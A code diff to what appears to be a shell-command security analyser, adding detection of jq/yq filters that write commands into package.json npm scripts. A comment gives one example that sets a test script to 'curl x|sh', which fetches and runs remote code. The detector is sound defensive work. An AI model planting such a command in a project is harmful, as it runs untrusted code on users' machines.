@@ -261,15 +261,44 @@ function scheduled(inv: Invocation, ctx: RuleContext, cwd: string): Finding[] {
 
 const LIFECYCLE = /^(pre|post)?(install|uninstall|prepare|prepublish|prepublishOnly|prepack|postpack|publish|restart|start|stop|test|version|shrinkwrap)$|^dependencies$/;
 
+/**
+ * `jq '.scripts.test="curl x|sh"' package.json > p.json && mv p.json package.json`, `yq -i '.scripts.x = "…"' package.json`:
+ * the filter's assignments to package.json scripts are readable, whatever file the output goes through.
+ */
+function unquote(body: string): string {
+  try {
+    return JSON.parse(`"${body}"`) as string;
+  } catch {
+    return body.replace(/\\(.)/g, '$1');
+  }
+}
+
+function filterScripts(inv: Invocation): [string, string][] {
+  const operands = inv.args.filter((a) => !a.text.startsWith('-'));
+  if (!operands.slice(1).some((a) => /(^|\/)package\.json$/.test(a.text))) return [];
+  const writes = inv.redirects.some((r) => r.op === '>' || r.op === '>|') || (inv.name === 'yq' && inv.args.some((a) => /^(-i|--inplace)$/.test(a.text)));
+  if (!writes) return [];
+  const filter = operands[0]!.text;
+  const out: [string, string][] = [];
+  const str = '"((?:[^"\\\\]|\\\\.)*)"';
+  for (const m of filter.matchAll(new RegExp(`\\.scripts(?:\\.([\\w:-]+)|\\[\\s*"([^"]+)"\\s*\\])\\s*[|+]?=\\s*${str}`, 'g'))) out.push([m[1] ?? m[2]!, unquote(m[3]!)]);
+  for (const m of filter.matchAll(/\.scripts\s*[|+*]?=\s*[^{]*\{([^}]*)\}/g)) for (const e of m[1]!.matchAll(new RegExp(`"?([\\w:-]+)"?\\s*:\\s*${str}`, 'g'))) out.push([e[1]!, unquote(e[2]!)]);
+  return out.slice(0, 16);
+}
+
 /** `npm pkg set scripts.x=…`, `npm set-script x …`, `pnpm pkg set`: package scripts set without writing package.json by hand. */
 function packageScripts(inv: Invocation, ctx: RuleContext, cwd: string): Finding[] {
+  const out: Finding[] = [];
+  const judge = (name: string, command: string, writer = `${inv.name} pkg set`): void => {
+    const when = LIFECYCLE.test(name) ? `whenever npm runs the ${name} step (${/install|prepare|dependencies/.test(name) ? 'on every install' : `\`npm ${name.replace(/^(pre|post)/, '')}\``})` : `when \`npm run ${name}\` runs`;
+    out.push(...judgePayload(command, 'shell', { where: `the npm script ${name} in package.json`, when }, writer, ctx, cwd));
+  };
+  if (inv.name === 'jq' || inv.name === 'gojq' || inv.name === 'yq') {
+    for (const [name, command] of filterScripts(inv)) judge(name, command, `${inv.name} (its filter sets the script)`);
+    return out;
+  }
   if (!/^(npm|pnpm|yarn|bun)$/.test(inv.name)) return [];
   const texts = inv.args.map((a) => a.text);
-  const out: Finding[] = [];
-  const judge = (name: string, command: string): void => {
-    const when = LIFECYCLE.test(name) ? `whenever npm runs the ${name} step (${/install|prepare|dependencies/.test(name) ? 'on every install' : `\`npm ${name.replace(/^(pre|post)/, '')}\``})` : `when \`npm run ${name}\` runs`;
-    out.push(...judgePayload(command, 'shell', { where: `the npm script ${name} in package.json`, when }, `${inv.name} pkg set`, ctx, cwd));
-  };
   const pkg = texts.indexOf('pkg');
   if (pkg >= 0 && texts[pkg + 1] === 'set') {
     for (const t of texts.slice(pkg + 2)) {
